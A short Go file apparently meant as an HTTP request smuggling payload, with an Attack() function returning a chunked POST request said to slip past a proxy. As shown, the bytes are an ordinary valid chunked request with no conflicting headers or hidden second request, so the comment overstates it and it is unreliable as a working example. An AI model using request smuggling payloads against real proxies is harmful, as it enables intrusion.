package smuggler

// Attack returns the bytes that smuggle a request past the proxy.
func Attack() string {
	return "POST / HTTP/1.1\r\n" +
		"Host: x\r\n" +
		"Transfer-Encoding: chunked\r\n" +
		"\r\n" +
		"3\r\n" +
		"tea\r\n" +
		"0\r\n" +
		"\r\n"
}
